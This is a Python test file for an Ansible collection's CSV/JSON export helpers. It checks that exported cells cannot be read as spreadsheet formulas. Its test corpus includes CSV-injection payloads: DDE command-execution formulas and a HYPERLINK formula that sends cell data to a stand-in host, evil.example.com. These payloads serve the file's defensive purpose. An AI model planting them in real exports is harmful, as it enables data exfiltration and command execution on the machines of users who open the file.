# Copyright: (c) 2026, genesyscloud.usage contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Files for spreadsheets and programs."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from corpus import formulas
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.genesyscloud.usage.plugins.module_utils import printable
from ansible_collections.genesyscloud.usage.plugins.module_utils.export import (
    defuse,
    write_csv,
    write_json,
    write_jsonl,
)

COLUMNS = ("name", "requests")
CORPUS = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example.com?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=1";=1',
    "=A1,=A2",
]

texts = st.text(st.characters(codec="utf-8"), max_size=12)
rows = st.lists(st.tuples(texts, st.integers(0, 2**63 - 1)), max_size=8)


def as_csv(found: list[tuple[Any, ...]], columns: tuple[str, ...] = COLUMNS) -> str:
    stream = io.StringIO(newline="")
    write_csv(stream, columns, found)
    return stream.getvalue()


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", CORPUS)
def test_no_cell_of_a_csv_file_is_a_formula(text: str) -> None:
    cell = parsed(as_csv([(text, 1)]))[1][0]
    # A carriage return alone would overwrite a line of a terminal: it is shown as what it is, and harmless then.
    assert cell == (text.replace("\r", "\\r") if text.startswith("\r") else f"'{text}")


@given(texts)
def test_a_cell_never_begins_with_what_a_spreadsheet_runs(text: str) -> None:
    cell = parsed(as_csv([(text, 1)]))[1][0]
    assert formulas([cell]) == []
    assert cell.removeprefix("'") == printable.text(text).removeprefix("'")


@pytest.mark.parametrize("value", [0, -5, 12.5, None, "plain", "a=b", "a@b.example.com", "", " x"])
def test_numbers_and_harmless_text_stay_what_they_are(value: Any) -> None:
    assert defuse(value) == value


@given(rows)
def test_a_csv_file_reads_back_as_what_was_written(found: list[tuple[str, int]]) -> None:
    expected = [list(COLUMNS)] + [[defuse(name), str(requests)] for name, requests in found]
    assert parsed(as_csv(found)) == expected


def test_a_csv_file_has_unix_lines_and_a_head_even_without_rows() -> None:
    assert as_csv([("a", 1)]) == "name,requests\na,1\n"
    assert as_csv([]) == "name,requests\n"


@given(rows)
def test_json_reads_back_as_what_was_written(found: list[tuple[str, int]]) -> None:
    stream = io.StringIO()
    head = {"schema": "x/1", "totals": {"requests": 3}, "first_day": None}
    write_json(stream, head, COLUMNS, found)
    assert json.loads(stream.getvalue()) == {**head, "rows": [dict(zip(COLUMNS, row, strict=True)) for row in found]}


@given(rows)
def test_json_lines_read_back_one_by_one(found: list[tuple[str, int]]) -> None:
    stream = io.StringIO()
    write_jsonl(stream, COLUMNS, found)
    lines = stream.getvalue().split("\n")
    assert lines.pop() == ""
    assert [json.loads(line) for line in lines] == [dict(zip(COLUMNS, row, strict=True)) for row in found]


def test_a_row_of_another_length_is_a_defect_and_never_shifted() -> None:
    with pytest.raises(ValueError, match="zip"):
        write_jsonl(io.StringIO(), COLUMNS, [("a",)])
